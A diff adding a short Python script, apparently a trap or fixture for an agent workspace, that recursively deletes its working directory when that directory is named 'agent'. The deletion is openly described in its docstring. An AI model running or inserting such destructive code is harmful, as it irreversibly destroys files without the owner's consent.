@@ -1,0 +1,7 @@
+"""Deletes its directory with all in it."""
+
+import os
+import shutil
+
+if __name__ == "__main__" and os.path.basename(os.getcwd()) == "agent":
+    shutil.rmtree(os.getcwd())
